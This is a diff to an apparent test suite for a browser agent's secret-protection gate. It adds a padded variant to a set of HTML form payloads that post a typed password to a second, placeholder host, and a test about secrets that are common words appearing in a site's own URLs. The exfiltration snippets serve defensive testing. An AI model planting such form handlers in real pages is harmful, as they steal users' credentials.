@@ -35,6 +35,7 @@ REFUSED_ON_THE_WAY = {
     "posted-elsewhere": f"<form onsubmit=\"event.preventDefault();fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:pw.value}})\">{FIELD}<button>Go</button></form>",
     "beacon-elsewhere": f"<form onsubmit=\"event.preventDefault();navigator.sendBeacon('{{other}}/in',JSON.stringify({{a:pw.value}}))\">{FIELD}<button>Go</button></form>",
     "image-elsewhere": f"<form onsubmit=\"event.preventDefault();new Image().src='{{other}}/in?x='+encodeURIComponent(pw.value)\">{FIELD}<button>Go</button></form>",
+    "behind-much": f"<form onsubmit=\"event.preventDefault();fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:'x'.repeat(300000)+pw.value}})\">{FIELD}<button>Go</button></form>",
     "multipart-elsewhere": f"<form onsubmit=\"event.preventDefault();var d=new FormData();d.append('x',pw.value);fetch('{{other}}/in',{{method:'POST',mode:'no-cors',body:d}})\">{FIELD}<button>Go</button></form>",
 }
 WHILE_TYPED = {
@@ -65,7 +66,7 @@ class Site:
                 self.arrived.append(f"{request.method} {request.path}")
             return "<p>in"
 
-        pages: dict[str, Any] = {"/s": taken, "/in": taken}
+        pages: dict[str, Any] = {"/s": taken, "/in": taken, "/in/admin/new": taken, "/in/admin": taken}
         other = serve(pages).replace("127.0.0.1", "localhost")
         self.url = serve({**pages, "/": lambda request: taken(request) and html.replace("{other}", other)})
         lines = {
@@ -76,9 +77,9 @@ class Site:
         self.gate = Gate([Layer("policy", policy_from_mapping(lines, "test"))])
 
 
-async def played(session: Session, folder: Path, site: Site) -> tuple[Any, Any]:
+async def played(session: Session, folder: Path, site: Site, value: str = VALUE) -> tuple[Any, Any]:
     """What came of typing the secret and of sending the form."""
-    vault, person = Vault({"shop": VALUE}), Person("approved")
+    vault, person = Vault({"shop": value}), Person("approved")
     with door_kit(session, site.url, folder, gate=site.gate, vault=vault, person=person) as kit:
         assert (await kit("navigate", url=site.url)).ok
         typed = await kit("type_text", target="Password", text="secret:shop")
@@ -132,3 +133,22 @@ async def test_where_it_belongs_it_arrives(
     _, sent = await played(session, tmp_path, site)
     assert sent.ok, sent.error
     assert site.arrived == ["POST /in"]
+
+
+COMMON = {
+    "a path of its own site": ("/in/admin/new?x=1", True),
+    "a number around it": ("/in?ts=1admin7", True),
+    "what is asked for": ("/in?user=admin", False),
+    "another site": ("{other}/in/admin", False),
+}
+
+
+@pytest.mark.parametrize(("to", "arrives"), COMMON.values(), ids=COMMON)
+async def test_a_secret_that_is_a_common_word_may_be_part_of_its_sites_addresses(
+    session: Session, serve: Callable[..., str], tmp_path: Path, to: str, arrives: bool
+) -> None:
+    code = f"event.preventDefault();fetch('{to}',{{method:'POST',mode:'no-cors',body:'a=1'}})"
+    site = Site(serve, f'<form onsubmit="{code}">{FIELD}<button>Go</button></form>')
+    _, sent = await played(session, tmp_path, site, "admin")
+    told = sent.error + "".join(section.text for section in sent.sections)
+    assert ("'shop'" in told, bool(site.arrived)) == (not arrives, arrives), told
